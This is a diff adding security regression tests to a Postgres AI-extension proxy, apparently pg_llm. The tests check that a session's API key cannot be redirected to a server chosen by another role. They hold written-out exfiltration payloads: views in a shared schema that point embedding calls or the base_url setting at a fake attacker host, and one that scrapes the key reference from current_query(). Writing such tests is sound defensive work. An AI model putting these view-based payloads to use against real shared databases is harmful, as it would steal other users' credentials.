@@ -133,3 +133,73 @@ describe('keys by argument and by environment', () => {
     });
   });
 });
+
+describe('a secret the session handed the proxy', () => {
+  const VICTIM_KEY = 'sk-victim-0123456789abcdef';
+
+  /** A database where role trust_user owns schema shared (readable by all), and a session of another role, the victim. */
+  async function sharedSchema() {
+    const { name, client: direct } = await freshDatabase();
+    await direct.query(`CREATE SCHEMA shared AUTHORIZATION trust_user; GRANT USAGE ON SCHEMA shared TO PUBLIC`);
+    const owner = await clientOf(suite.proxy, name);
+    await owner.query('CREATE EXTENSION ai');
+    await owner.query('CREATE EXTENSION pg_llm');
+    const other = await clientOf(suite.proxy, name, 'trust');
+    const victim = await clientOf(suite.proxy, name, 'password');
+    const attacker = await startFakeProvider();
+    afterThisTest(() => attacker.close());
+    return { direct, other, victim, attacker };
+  }
+
+  it("is not sent by another role's view to a server that role chose", async () => {
+    const { other, victim, attacker } = await sharedSchema();
+    // Its rows are the same whether the call has its result yet (the proxy's collect pass) or not.
+    await other.query(`CREATE VIEW shared.notes AS SELECT 'hello'::text AS body
+                        WHERE (ai.openai_embed('m', 'x', client_config => '{"base_url": "${attacker.baseUrl}"}') IS NULL) IS NOT NULL`);
+    await other.query('GRANT SELECT ON shared.notes TO PUBLIC');
+    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'`);
+    await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM shared.notes`)).rejects.toMatchObject({
+      code: '42501',
+      message: 'a secret this session handed the proxy goes only to a server the session named itself, and the openai server of this call was chosen elsewhere',
+      hint: expect.stringContaining('SET ai.openai_base_url'),
+    });
+    expect(attacker.requests).toEqual([]);
+    // Named by the victim in its own statement, the same server is the victim's choice.
+    await victim.query(`SELECT ai.openai_embed('m', body) FROM shared.notes WHERE '${attacker.baseUrl}' IS NOT NULL`);
+    expect(attacker.requests.map((request) => request.authorization)).toContain(`Bearer ${VICTIM_KEY}`);
+  });
+
+  it("is not sent where a setting another role's view made in the session points", async () => {
+    const { other, victim, attacker } = await sharedSchema();
+    await other.query(`CREATE VIEW shared.prices AS SELECT 42 AS price WHERE set_config('ai.openai_base_url', '${attacker.baseUrl}', false) IS NOT NULL`);
+    await other.query('GRANT SELECT ON shared.prices TO PUBLIC');
+    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'`);
+    await victim.query('SELECT price FROM shared.prices');
+    await expect(victim.query(`SELECT ai.openai_embed('m', 'my private text')`)).rejects.toMatchObject({ code: '42501' });
+    expect(attacker.requests).toEqual([]);
+    // The victim's own SET of the server, a base_url it binds as a parameter and one in its startup options count.
+    await victim.query(`SET ai.openai_base_url = '${suite.fake.baseUrl}'`);
+    await victim.query(`SELECT ai.openai_embed('m', 'mine')`);
+    await victim.query(`SELECT ai.openai_embed('m', 'bound', client_config => $1)`, [JSON.stringify({ base_url: attacker.baseUrl })]);
+    expect(attacker.requests.map((request) => request.authorization)).toEqual([`Bearer ${VICTIM_KEY}`]);
+  });
+
+  it("written out in the victim's statement is not sent elsewhere by a call copying its reference from current_query()", async () => {
+    const { direct, victim, attacker } = await sharedSchema();
+    const stolen = `substring(current_query() from 'held by pg_llm proxy [0-9a-f]{32}')`;
+    await direct.query(`CREATE VIEW shared.docs AS SELECT 'hello'::text AS body
+                         WHERE (ai.openai_embed('m', 'x', api_key => ${stolen}, client_config => '{"base_url": "${attacker.baseUrl}"}') IS NULL) IS NOT NULL`);
+    await direct.query('GRANT SELECT ON shared.docs TO PUBLIC');
+    await expect(victim.query(`SELECT ai.openai_embed('m', body, api_key => '${VICTIM_KEY}', client_config => '{"base_url": "${suite.fake.baseUrl}"}') FROM shared.docs`)).rejects.toMatchObject({
+      code: '42501',
+    });
+    await direct.query(`CREATE OR REPLACE VIEW shared.docs AS SELECT 'hello'::text AS body
+                         WHERE (pg_llm_add_model(false, 'openai', 'stolen', ${stolen}, '{"base_url": "${attacker.baseUrl}"}') IS NULL) IS NOT NULL`);
+    await expect(victim.query(`SELECT ai.openai_embed('m', body, api_key => '${VICTIM_KEY}', client_config => '{"base_url": "${suite.fake.baseUrl}"}') FROM shared.docs`)).rejects.toMatchObject({
+      code: '42501',
+      message: expect.stringContaining("this model's server was chosen elsewhere"),
+    });
+    expect(attacker.requests).toEqual([]);
+    expect((await direct.query(`SELECT count(*)::int AS n FROM _pg_llm_catalog.pg_llm_models WHERE instance_name = 'stolen'`)).rows).toEqual([{ n: 0 }]);
+  });
+});
